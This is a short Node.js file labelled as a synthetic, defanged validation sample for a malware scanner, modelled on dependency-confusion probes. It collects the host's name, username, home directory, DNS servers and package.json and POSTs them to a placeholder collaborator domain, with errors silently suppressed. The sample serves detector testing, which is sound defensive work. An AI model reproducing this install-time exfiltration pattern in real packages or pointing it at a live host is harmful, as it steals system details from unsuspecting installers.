// SYNTHETIC, DEFANGED malwi validation sample - modelled on dependency-confusion probes (2021 onward, HTTPS variant); never run.
const os = require('os');
const dns = require('dns');
const querystring = require('querystring');
const https = require('https');
const packageJSON = require('./package.json');
const pkg = packageJSON.name;

const trackingData = JSON.stringify({
  p: pkg,
  c: __dirname,
  hd: os.homedir(),
  hn: os.hostname(),
  un: os.userInfo().username,
  dns: dns.getServers(),
  r: packageJSON ? packageJSON.___resolved : undefined,
  v: packageJSON.version,
  pjson: packageJSON
});

const postData = querystring.stringify({ msg: trackingData });

const options = {
  hostname: 'abcdefgh1234.oastify.example.invalid',
  port: 443,
  path: '/',
  method: 'POST',
  headers: {
    'Content-Type': 'application/x-www-form-urlencoded',
    'Content-Length': postData.length
  }
};

const req = https.request(options, (res) => {
  res.on('data', (d) => {
    process.stdout.write(d);
  });
});

req.on('error', () => {});
req.write(postData);
req.end();
